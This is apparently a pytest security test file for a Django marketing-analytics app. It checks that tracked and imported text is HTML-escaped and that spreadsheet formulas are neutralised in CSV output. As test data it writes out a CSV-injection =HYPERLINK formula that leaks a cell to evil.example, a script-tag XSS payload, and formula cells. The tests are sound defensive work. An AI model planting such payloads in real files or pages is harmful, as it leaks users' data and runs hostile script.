"""Text that arrives from outside — tracking, imports — is inert where onefunnel shows it: escaped
in HTML pages, never a live formula in a CSV file; and one absurdly long cell in an imported
file is one rejected row, with every row after it imported."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from django.contrib.auth.models import User
from django.test import Client
from typer.testing import CliRunner

from onefunnel.analytics.table import Table
from onefunnel.models import Campaign, Contact, Touchpoint
from onefunnel.services.imports import ContactSource, import_contacts
from onefunnel.services.imports.csvfile import MAX_ROW_CHARS
from onefunnel.services.keys import create_key
from onefunnel.services.tracking_inbound import drain
from onefunnel.services.tracking_writer import writer

pytestmark = pytest.mark.django_db(transaction=True)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
SCRIPT = "<script>alert('owned')</script>"
HEADER = "email,first_name,last_name,company,domain,stage,reason,channel,created_at\r\n"


@pytest.fixture(autouse=True)
def _own_processing(settings: Any) -> Iterator[None]:
    # The test expands the inbox itself (drain); the writer thread's connection is released.
    settings.ONEFUNNEL_TRACKING_PROCESSOR = False
    yield
    writer.close_connection()


def _send(*messages: dict[str, Any]) -> None:
    key = create_key("tracking:write").secret  # the public key a web page carries
    auth = "Basic " + base64.b64encode(f"{key}:".encode()).decode()
    response = Client().post(
        "/v1/batch",
        orjson.dumps({"batch": list(messages)}),
        content_type="application/json",
        headers={"Authorization": auth},
    )
    assert response.status_code == 200, response.content
    drain()


def _hostile_visit() -> None:
    _send(
        {
            "type": "identify",
            "messageId": "id-1",
            "userId": "u-1",
            "traits": {"email": "mallory@example.com", "firstName": SCRIPT},
            "timestamp": "2026-03-02T09:00:00Z",
        },
        {
            "type": "page",
            "messageId": "page-1",
            "userId": "u-1",
            "name": SCRIPT,
            "context": {"campaign": {"name": HYPERLINK, "source": SCRIPT, "medium": "cpc"}},
            "timestamp": "2026-03-02T09:01:00Z",
        },
    )


def test_a_hyperlink_campaign_sent_by_tracking_is_not_live_in_csv() -> None:
    _hostile_visit()
    assert Campaign.objects.filter(utm_campaign=HYPERLINK).exists()
    assert Touchpoint.objects.filter(utm_campaign=HYPERLINK).exists()

    from onefunnel.cli import app
    from onefunnel.cli import commands as _commands  # noqa: F401 - registers `contact`

    result = CliRunner().invoke(app, ["contact", "mallory@example.com", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output)) for cell in row]
    assert HYPERLINK not in cells
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    # Reports' CSV (Table.to_csv), with the campaign as a group and a negative number.
    table = Table.of(["campaign", "roi"], [(HYPERLINK, -0.25), ("plain", 1.5)])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows == [["campaign", "roi"], ["'" + HYPERLINK, "-0.25"], ["plain", "1.5"]]


def test_tracked_text_is_escaped_in_the_admin_and_dashboard(client: Client) -> None:
    _hostile_visit()
    contact = Contact.objects.get(email="mallory@example.com")
    assert contact.first_name == SCRIPT  # stored as sent ...
    client.force_login(User.objects.create_superuser("root", password="x" * 12))
    pages = [
        "/admin/onefunnel/contact/",
        f"/admin/onefunnel/contact/{contact.pk}/change/",
        "/admin/onefunnel/campaign/",
        "/admin/onefunnel/touchpoint/",
        f"/admin/onefunnel/touchpoint/{Touchpoint.objects.get(message_id='page-1').pk}/change/",
        "/",
        "/panels/status",
        *(f"/panels/report/{slug}" for slug in ("leaks", "spend", "quality", "follow-up")),
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        html = response.content.decode()
        assert "<script>alert(" not in html, page  # ... and shown as text, never run
    changelist = client.get("/admin/onefunnel/contact/").content.decode()
    assert "&lt;script&gt;alert(" in changelist


def test_rejects_file_neutralises_formulas(tmp_path: Path) -> None:
    file = tmp_path / "contacts.csv"
    file.write_text(
        HEADER
        + "not-an-email,=1+1,@SUM(A1),,,,,,2024-05-01\r\n"
        + "ok@example.com,Ok,Person,,,,,,2024-05-01\r\n"
    )
    report = import_contacts(file, ContactSource.GENERIC)
    assert report.created == 1
    assert report.rejects_path is not None
    rows = list(csv.reader(io.StringIO(Path(report.rejects_path).read_text())))
    assert rows[1][:3] == ["2", "email", rows[1][2]]
    assert rows[1][3:6] == ["not-an-email", "'=1+1", "'@SUM(A1)"]


def test_a_cell_over_the_limit_is_one_rejected_row_and_every_row_after_imports(
    tmp_path: Path,
) -> None:
    # A quoted cell of ~10 MB over many lines, with escaped quotes and commas inside: past the
    # csv module's default field limit (128 KiB) and past MAX_ROW_CHARS.
    line = 'lorem ipsum, dolor ""sit"" amet; consectetur adipiscing elit 0123456789 abcdefghij\n'
    lines = 10 * 1024 * 1024 // len(line) + 1
    assert len(line) * lines > MAX_ROW_CHARS
    file = tmp_path / "contacts.csv"
    with file.open("w", newline="") as handle:
        handle.write(HEADER)
        handle.write("before@example.com,Before,Row,,,,,,2024-05-01\r\n")
        handle.write('huge@example.com,"' + line * lines + '",Cell,,,,,,2024-05-01\r\n')
        # A cell long for the csv module's default limit, but under ours: read as data.
        handle.write(f'long@example.com,Long,"{"x" * 200_000}",,,,,,2024-05-01\r\n')
        for i in range(5):
            handle.write(f"after{i}@example.com,After,Row{i},,,,,,2024-05-02\r\n")
    assert file.stat().st_size < 12 * 1024 * 1024

    report = import_contacts(file, ContactSource.GENERIC)
    assert [(r.row, r.column) for r in report.rejects][:1] == [(3, "(row)")]
    assert "over 4 MiB" in report.rejects[0].message
    imported = set(Contact.objects.values_list("email", flat=True))
    assert {"before@example.com", *(f"after{i}@example.com" for i in range(5))} <= imported
    assert "huge@example.com" not in imported
    # The long-but-allowed row is row 4: imported, or rejected on its own merits — never lost
    # inside another row.
    assert "long@example.com" in imported or [r.row for r in report.rejects] == [3, 4]
    assert report.read == 8


def test_imported_text_is_escaped_in_the_admin(tmp_path: Path, client: Client) -> None:
    file = tmp_path / "contacts.csv"
    file.write_text(
        HEADER + f'ada@example.com,"{SCRIPT}",Lovelace,"{SCRIPT} Ltd",ada.example,,,,2024-05-01\r\n'
    )
    assert import_contacts(file, ContactSource.GENERIC).created == 1
    contact = Contact.objects.get(email="ada@example.com")
    assert contact.first_name == SCRIPT
    client.force_login(User.objects.create_superuser("root", password="x" * 12))
    for page in (
        "/admin/onefunnel/contact/",
        f"/admin/onefunnel/contact/{contact.pk}/change/",
        "/admin/onefunnel/account/",
        "/admin/onefunnel/stagechange/",
    ):
        response = client.get(page)
        assert response.status_code == 200, page
        assert "<script>alert(" not in response.content.decode(), page
    assert "&lt;script&gt;alert(" in client.get("/admin/onefunnel/account/").content.decode()
